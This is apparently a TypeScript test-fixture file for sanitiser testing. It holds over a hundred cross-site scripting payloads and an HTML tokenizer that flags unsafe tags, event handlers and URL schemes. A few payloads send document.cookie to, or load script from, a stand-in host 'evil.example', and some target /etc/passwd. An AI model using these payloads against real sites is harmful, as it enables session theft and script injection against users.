/**
 * Known cross-site scripting payloads, for tests that push hostile input through every place text reaches
 * HTML: rich text, titles, display names, URL parameters. Collected from the OWASP XSS filter evasion cheat
 * sheet, PortSwigger's cheat sheet and common scanner lists; a few are here only because they broke a
 * sanitiser once. Keep them as plain strings: tests decide where each one goes.
 */

/** Payloads aimed at link targets (href/src): scripting and document schemes, obfuscated every usual way. */
export const xssUrlPayloads: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "JAVASCRIPT:alert(document.cookie)",
  " javascript:alert(1)",
  "\tjavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\rscript:alert(1)",
  "java\u0000script:alert(1)",
  "\u0001javascript:alert(1)",
  "javascript\t:alert(1)",
  "javascript&colon;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript:alert(1)",
  "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
  "jav&#x09;ascript:alert(1)",
  "jav&#x0A;ascript:alert(1)",
  "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
  "javascript://%0Aalert(1)",
  "javascript://https://example.org/%0aalert(1)",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "javascript:void(0);fetch('//evil.example/'+document.cookie)",
  "javascript:eval(atob('YWxlcnQoMSk='))",
  "\\u006Aavascript:alert(1)",
  "ｊａｖａｓｃｒｉｐｔ:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "DATA:text/html,<svg onload=alert(1)>",
  " data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
  "data:application/javascript,alert(1)",
  "vbscript:msgbox(1)",
  'VBScript:Execute("MsgBox(1)")',
  "livescript:alert(1)",
  "mocha:alert(1)",
  "file:///etc/passwd",
  "blob:https://example.org/uuid",
  "filesystem:https://example.org/temporary/x",
  "//evil.example/x.js",
  "\\\\evil.example\\x",
  "/\\evil.example",
  "/relative/path",
  "../../../../etc/passwd",
  "#javascript:alert(1)",
  "?q=<script>alert(1)</script>",
  "ftp://evil.example/x",
  "intent://evil#Intent;scheme=http;end",
  'https://example.org/"><script>alert(1)</script>',
  "https://example.org/' onmouseover='alert(1)",
  'https://example.org/?q=" onfocus=alert(1) autofocus x="',
  "http://example.org/#<img src=x onerror=alert(1)>",
  "mailto:x@example.org?body=<script>alert(1)</script>",
  'mailto:"><svg onload=alert(1)>@example.org',
];

/** Payloads aimed at text and markup contexts (element content, attributes, templates). */
export const xssMarkupPayloads: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
  "<script src=//evil.example/x.js></script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script\n>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "</script><script>alert(1)</script>",
  "<<SCRIPT>alert(1);//<</SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("XSS")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  "<img src=x:alert(alt) onerror=eval(src) alt=0>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<body onload=alert(1)>",
  "<body onpageshow=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">click</a>',
  "<a href=javascript&colon;alert(1)>click</a>",
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a onmouseover="alert(1)">hover</a>',
  '<a href="https://example.org" onclick="alert(1)">ok</a>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  "<form><button formaction=javascript:alert(1)>X</button></form>",
  "<input onfocus=alert(1) autofocus>",
  '<input value="" onfocus="alert(1)" autofocus>',
  "<select onfocus=alert(1) autofocus>",
  "<textarea onfocus=alert(1) autofocus>",
  "<keygen onfocus=alert(1) autofocus>",
  "<details open ontoggle=alert(1)>",
  '<video><source onerror="alert(1)">',
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>",
  '<div style="background-image: url(javascript:alert(1))">',
  '<div style="width: expression(alert(1))">',
  "<style>@import 'javascript:alert(1)';</style>",
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
  '<base href="javascript:alert(1)//">',
  '<table background="javascript:alert(1)">',
  '<td background="javascript:alert(1)">',
  "<isindex action=javascript:alert(1) type=image>",
  "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml version="1.0"?><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '"><img src=x onerror=alert(1)>',
  "</title><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<%= alert(1) %>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "＜script＞alert(1)＜/script＞",
  "<img src=x onerror=alert`1`>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  '<img src=x onerror="\u2028alert(1)">',
  '<a href="https://example.org">ok</a><script>alert(1)</script>',
  "<p onclick=alert(1)>Πατήστε εδώ</p>",
  "Δήμος <b onmouseover=alert(1)>Θεσσαλονίκης</b>",
  "__proto__",
  "constructor",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math href="javascript:alert(1)">CLICK</math>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
];

/** Every payload, for tests that want them all: at least the hundred the issue asks for. */
export const xssPayloads: readonly string[] = [...xssUrlPayloads, ...xssMarkupPayloads];

// ---------------------------------------------------------------------------------------------------------
// A checker for rendered HTML, strict enough to trust in tests: it tokenizes tags the way a browser does
// (quoted and unquoted attributes, "/" as a separator, comments, raw-text elements) rather than matching
// substrings, so escaped payloads in text do not count and real markup cannot hide.

const SCRIPTABLE_TAGS = new Set([
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "base",
  "meta",
  "link",
  "style",
  "form",
  "svg",
  "math",
  "template",
  "xml",
  "import",
  "portal",
]);
/** Attributes a browser reads as URLs: none may carry a scriptable scheme. */
export const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "action",
  "formaction",
  "xlink:href",
  "background",
  "poster",
  "data",
  "codebase",
  "srcdoc",
  "lowsrc",
  "dynsrc",
  "ping",
  "srcset",
  "cite",
  "manifest",
  "longdesc",
  "usemap",
]);
const RAW_TEXT = new Set([
  "script",
  "style",
  "textarea",
  "title",
  "xmp",
  "iframe",
  "noembed",
  "noframes",
  "plaintext",
]);
const NAMED_ENTITIES: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  colon: ":",
  tab: "\t",
  newline: "\n",
  sol: "/",
  lpar: "(",
  rpar: ")",
  nbsp: "\u00a0",
};

/** Decodes character references the way attribute values are decoded (numeric, and common named ones). */
export function decodeHtmlEntities(value: string): string {
  return value.replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);?/gi, (whole, ref: string) => {
    if (ref[0] === "#") {
      const code = ref[1] === "x" || ref[1] === "X" ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10);
      return Number.isFinite(code) && code >= 0 && code <= 0x10ffff ? String.fromCodePoint(code) : whole;
    }
    return NAMED_ENTITIES[ref.toLowerCase()] ?? whole;
  });
}

export type HtmlTag = { name: string; closing: boolean; attrs: [string, string][]; source: string };
export type HtmlToken =
  { kind: "text"; text: string } | ({ kind: "tag" } & HtmlTag) | { kind: "comment"; text: string };

/** Splits HTML into text, tags (with decoded attribute values) and comments, as an HTML tokenizer would. */
export function tokenizeHtml(html: string): HtmlToken[] {
  const tokens: HtmlToken[] = [];
  let i = 0;
  let text = "";
  const flush = () => {
    if (text) tokens.push({ kind: "text", text });
    text = "";
  };
  while (i < html.length) {
    const c = html[i];
    if (c !== "<") {
      text += c;
      i++;
      continue;
    }
    if (html.startsWith("<!--", i)) {
      flush();
      const end = html.indexOf("-->", i + 4);
      const stop = end === -1 ? html.length : end + 3;
      tokens.push({ kind: "comment", text: html.slice(i, stop) });
      i = stop;
      continue;
    }
    if (html[i + 1] === "!" || html[i + 1] === "?") {
      flush();
      const end = html.indexOf(">", i);
      const stop = end === -1 ? html.length : end + 1;
      tokens.push({ kind: "comment", text: html.slice(i, stop) });
      i = stop;
      continue;
    }
    const closing = html[i + 1] === "/";
    const nameStart = i + (closing ? 2 : 1);
    if (!/[a-z]/i.test(html[nameStart] ?? "")) {
      text += c;
      i++;
      continue;
    }
    flush();
    let j = nameStart;
    while (j < html.length && !/[\s/>]/.test(html[j])) j++;
    const name = html.slice(nameStart, j).toLowerCase();
    const attrs: [string, string][] = [];
    while (j < html.length && html[j] !== ">") {
      if (/[\s/]/.test(html[j])) {
        j++;
        continue;
      }
      const attrStart = j;
      j++; // the first character may be "=", as in the spec
      while (j < html.length && !/[\s/>=]/.test(html[j])) j++;
      const attrName = html.slice(attrStart, j).toLowerCase();
      while (j < html.length && /\s/.test(html[j])) j++;
      let value = "";
      if (html[j] === "=") {
        j++;
        while (j < html.length && /\s/.test(html[j])) j++;
        const quote = html[j];
        if (quote === '"' || quote === "'") {
          const end = html.indexOf(quote, j + 1);
          const stop = end === -1 ? html.length : end;
          value = html.slice(j + 1, stop);
          j = stop + 1;
        } else {
          const start = j;
          while (j < html.length && !/[\s>]/.test(html[j])) j++;
          value = html.slice(start, j);
        }
      }
      attrs.push([attrName, decodeHtmlEntities(value)]);
    }
    const end = Math.min(j + 1, html.length);
    tokens.push({ kind: "tag", name, closing, attrs, source: html.slice(i, end) });
    i = end;
    if (!closing && RAW_TEXT.has(name)) {
      // Raw text: everything up to the matching end tag is text, whatever it looks like.
      const close = html.toLowerCase().indexOf(`</${name}`, i);
      const stop = close === -1 ? html.length : close;
      text += html.slice(i, stop);
      i = stop;
    }
  }
  flush();
  return tokens;
}

/** A URL attribute's scheme as a browser sees it (after dropping whitespace and controls); "" if none. */
export function urlScheme(value: string): string {
  const cleaned = value.replace(/[\u0000-\u0020\u007f-\u009f]/g, "");
  const m = /^([a-z][a-z0-9+.-]*):/i.exec(cleaned);
  return m ? m[1].toLowerCase() : "";
}

/**
 * What in this HTML could run script or leave the allowed link schemes: scriptable elements, event-handler
 * and style attributes, URL attributes with a scheme other than http, https or mailto, and protocol-relative
 * URLs. Empty means clean. (A whole page has the framework's own <script> tags: check fragments.)
 */
export function findUnsafeHtml(html: string): string[] {
  const found: string[] = [];
  for (const token of tokenizeHtml(html)) {
    if (token.kind !== "tag" || token.closing) continue;
    if (SCRIPTABLE_TAGS.has(token.name)) found.push(`element <${token.name}>: ${token.source}`);
    for (const [name, value] of token.attrs) {
      if (/^on/.test(name)) found.push(`event handler ${name}: ${token.source}`);
      if (name === "style" && /javascript|expression|url\s*\(/i.test(value)) {
        found.push(`style: ${token.source}`);
      }
      if (URL_ATTRIBUTES.has(name)) {
        const scheme = urlScheme(value);
        if (scheme && !["http", "https", "mailto"].includes(scheme)) {
          found.push(`${scheme}: URL in ${name}: ${token.source}`);
        }
        if (/^\s*[/\\]{2}/.test(value)) found.push(`protocol-relative URL in ${name}: ${token.source}`);
      }
    }
  }
  return found;
}
